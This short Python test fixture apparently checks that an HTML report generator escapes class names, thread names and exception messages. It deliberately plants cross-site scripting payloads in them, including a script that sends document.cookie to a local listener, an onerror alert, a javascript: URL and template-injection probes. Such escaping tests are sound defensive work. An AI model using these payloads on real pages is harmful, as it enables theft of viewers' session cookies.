# fail: tries to run a script in the browser of whoever looks at the report
"""Names of classes and threads, messages and values come to stand in a page of HTML."""

import threading

EVIL = "</script><script>fetch('http://127.0.0.1:47474/'+document.cookie)</script>"
Evil = type(f"<img src=x onerror=alert(1)>{EVIL}", (LookupError,), {})


def fetch_all(urls, fetch, limit):
    crew = [
        threading.Thread(target=fetch, args=(url,), name=f"{EVIL}&quot;'\"{url}")
        for url in urls
    ]
    for one in crew:
        one.start()
    raise Evil(EVIL, "javascript:alert(1)", "{{7*7}}", "${7*7}", "]]>")
